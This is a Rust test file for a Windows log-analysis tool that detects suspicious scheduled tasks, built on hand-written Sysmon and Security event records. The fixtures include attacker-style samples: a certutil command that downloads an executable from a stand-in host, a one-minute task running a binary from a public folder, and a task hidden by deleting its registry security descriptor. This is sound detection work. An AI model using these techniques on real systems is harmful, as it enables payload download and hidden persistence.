//! Lineage paths the real samples do not exercise, on small hand-written records.

use beaconstat::lineage::{CreationMethod, LifeKind, Lineage, LineageBuilder, TaskBaseline, TaskReason, TaskRole};
use beaconstat::{Timestamp, winevent::WinRecord};

fn build(lines: &[String]) -> Lineage {
    build_with(LineageBuilder::new(), lines)
}

fn build_with(mut b: LineageBuilder, lines: &[String]) -> Lineage {
    let mut rec = WinRecord::new();
    for l in lines {
        rec.parse_str(l).unwrap();
        b.push_record(&rec);
    }
    b.build()
}

fn sec(id: u32, t: &str, data: &str) -> String {
    format!(r#"{{"EventID":{id},"Channel":"Security","Hostname":"WS1","TimeCreated":"2024-01-01T10:00:{t}Z",{data}}}"#)
}

fn sysmon(id: u32, t: &str, data: &str) -> String {
    format!(
        r#"{{"EventID":{id},"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2024-01-01T10:00:{t}Z","UtcTime":"2024-01-01 10:00:{t}",{data}}}"#
    )
}

const XML: &str = r#"<Task><Triggers><TimeTrigger><Repetition><Interval>PT1M</Interval></Repetition></TimeTrigger></Triggers><Actions><Exec><Command>C:\\Users\\Public\\a.exe</Command></Exec></Actions></Task>"#;

#[test]
fn client_process_id_names_the_creator() {
    let lin = build(&[
        sysmon(
            1,
            "01.000",
            r#""ProcessGuid":"{P1}","ProcessId":"4242","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell -nop","ParentProcessGuid":"{P0}","ParentProcessId":"100","ParentImage":"C:\\Windows\\explorer.exe""#,
        ),
        sec(
            4698,
            "05.000",
            &format!(
                r#""SubjectUserName":"bob","SubjectDomainName":"CORP","SubjectLogonId":"0x1234","TaskName":"\\Upd","TaskContent":"{}","ClientProcessId":"4242","ParentProcessId":"100","RpcCallClientLocality":"1""#,
                XML.replace('"', "\\\"")
            ),
        ),
    ]);
    let t = lin.task("WS1", "Upd").unwrap();
    assert_eq!(t.creation.method, CreationMethod::PowerShell);
    assert!(!t.creation.remote);
    assert_eq!(t.creation.user.as_deref(), Some(r"CORP\bob"));
    assert_eq!(t.period, Some(beaconstat::Interval::from_secs(60)));
    let r: Vec<TaskReason> = t.findings.iter().map(|f| f.reason).collect();
    assert!(
        r.contains(&TaskReason::ShortRepetition) && r.contains(&TaskReason::UserWritablePath),
        "{r:?}"
    );
    assert!(r.contains(&TaskReason::ScriptHostCreator), "{r:?}");
    let link = lin.task_for_process("WS1", "{P1}", Timestamp::MAX).unwrap();
    assert_eq!(link.role, TaskRole::Creator);
}

#[test]
fn taskschd_dll_load_means_com_api() {
    let lin = build(&[
        sysmon(
            1,
            "00.000",
            r#""ProcessGuid":"{Q}","ProcessId":"77","Image":"C:\\Temp\\tool.exe","CommandLine":"tool.exe""#,
        ),
        sysmon(
            7,
            "01.000",
            r#""ProcessGuid":"{Q}","ProcessId":"77","Image":"C:\\Temp\\tool.exe","ImageLoaded":"C:\\Windows\\System32\\taskschd.dll""#,
        ),
        sec(4698, "02.000", r#""SubjectUserName":"bob","TaskName":"\\T2""#),
    ]);
    let t = lin.task("WS1", r"\T2").unwrap();
    assert_eq!(t.creation.method, CreationMethod::ComApi);
    assert!(t.creation.evidence.iter().any(|e| e.contains("taskschd.dll")));
    let h = lin.host("WS1").unwrap();
    assert_eq!(h.processes[t.creation.process.as_ref().unwrap().id].pid, Some(77));
}

#[test]
fn script_block_means_powershell() {
    let lin = build(&[
        r#"{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Hostname":"WS1","TimeCreated":"2024-01-01T10:00:00Z","ScriptBlockText":"Register-ScheduledTask -TaskName T3 -Action $a"}"#.to_owned(),
        sec(4698, "01.000", r#""TaskName":"\\T3""#),
    ]);
    assert_eq!(
        lin.task("WS1", "T3").unwrap().creation.method,
        CreationMethod::PowerShell
    );
}

#[test]
fn registry_only_hidden_task() {
    let key = r"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Ghost";
    let lin = build(&[
        sysmon(
            13,
            "00.000",
            &format!(
                r#""EventType":"SetValue","Image":"C:\\Windows\\regedit.exe","TargetObject":"{key}\\Id","Details":"{{AB}}""#
            ),
        ),
        sysmon(
            13,
            "00.100",
            &format!(
                r#""EventType":"SetValue","Image":"C:\\Windows\\regedit.exe","TargetObject":"{key}\\Index","Details":"DWORD (0x00000000)""#
            ),
        ),
        sysmon(
            12,
            "00.200",
            &format!(r#""EventType":"DeleteValue","Image":"C:\\Windows\\regedit.exe","TargetObject":"{key}\\SD""#),
        ),
        // A folder key: not a task.
        sysmon(
            12,
            "00.300",
            r#""EventType":"CreateKey","TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Folder""#,
        ),
    ]);
    let h = lin.host("WS1").unwrap();
    assert_eq!(h.tasks.len(), 1);
    let t = &h.tasks[0];
    assert_eq!(t.name, r"\Ghost");
    assert_eq!(t.creation.method, CreationMethod::RegistryOnly);
    assert!(t.hidden);
    let kinds: Vec<_> = t.life.iter().map(|l| l.what).collect();
    assert_eq!(
        kinds,
        [
            LifeKind::RegistryWritten,
            LifeKind::RegistryHidden,
            LifeKind::RegistryHidden
        ]
    );
    let r: Vec<TaskReason> = t.findings.iter().map(|f| f.reason).collect();
    assert!(
        r.contains(&TaskReason::RegistryOnly) && r.contains(&TaskReason::Hidden),
        "{r:?}"
    );
}

#[test]
fn winlogbeat_records_and_at_exe() {
    let lin = build(&[
        r#"{"@timestamp":"2024-01-01T10:00:00.000Z","winlog":{"event_id":4688,"channel":"Security","computer_name":"WS2","provider_name":"Microsoft-Windows-Security-Auditing","event_data":{"NewProcessId":"0x10","NewProcessName":"C:\\Windows\\System32\\at.exe","ProcessId":"0x4","CommandLine":"at 13:20 /interactive cmd","SubjectUserName":"eve","SubjectDomainName":"CORP"}}}"#.to_owned(),
    ]);
    let t = lin.task("WS2", r"\At").unwrap();
    assert_eq!(t.creation.method, CreationMethod::At);
    assert_eq!(t.creation.user.as_deref(), Some(r"CORP\eve"));
}

#[test]
fn rarity_against_a_saved_baseline() {
    let run = |pid: u32, t: &str, cmd: &str| {
        sysmon(
            1,
            t,
            &format!(
                r#""ProcessGuid":"{{G{pid}}}","ProcessId":"{pid}","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"{cmd}","ParentImage":"C:\\Windows\\System32\\svchost.exe","ParentCommandLine":"svchost.exe -k netsvcs -p -s Schedule""#
            ),
        )
    };
    let ts = |id: u32, t: &str, pid: u32| {
        format!(
            r#"{{"EventID":{id},"Channel":"Microsoft-Windows-TaskScheduler/Operational","Hostname":"WS1","TimeCreated":"2024-01-01T10:00:{t}Z","TaskName":"\\Job","TaskInstanceId":"{{I{pid}}}","EnginePID":"{pid}"}}"#
        )
    };
    let lines = [
        ts(200, "01.000", 11),
        run(11, "01.010", "cmd.exe /c backup.bat"),
        ts(200, "02.000", 12),
        run(12, "02.010", "cmd.exe /c backup.bat"),
        ts(200, "03.000", 13),
        run(13, "03.010", "cmd.exe /c backup.bat"),
        ts(200, "04.000", 14),
        run(14, "04.010", "cmd.exe /c certutil -urlcache -f http://x/y y.exe"),
    ];
    let lin = build(&lines);
    let t = lin.task("WS1", "Job").unwrap();
    assert_eq!(t.runs.len(), 4);
    let rare: Vec<_> = t.findings.iter().filter(|f| f.reason == TaskReason::Rare).collect();
    assert_eq!(rare.len(), 1);
    let h = lin.host("WS1").unwrap();
    assert_eq!(h.processes[rare[0].process.unwrap()].pid, Some(14));

    // A baseline saved from the usual runs flags the odd one too, and survives a round trip.
    let mut base = TaskBaseline::new();
    base.observe(&build(&lines[..6]));
    let mut text = Vec::new();
    base.save(&mut text).unwrap();
    let base = TaskBaseline::load(text.as_slice()).unwrap();
    assert_eq!(base.total(), 3);
    let mut b = LineageBuilder::new();
    b.baseline(base);
    let lin = build_with(b, &lines);
    let t = lin.task("WS1", "Job").unwrap();
    let rare: Vec<_> = t.findings.iter().filter(|f| f.reason == TaskReason::Rare).collect();
    assert_eq!(rare.len(), 1);
    assert!(rare[0].detail.contains("baseline"));
}
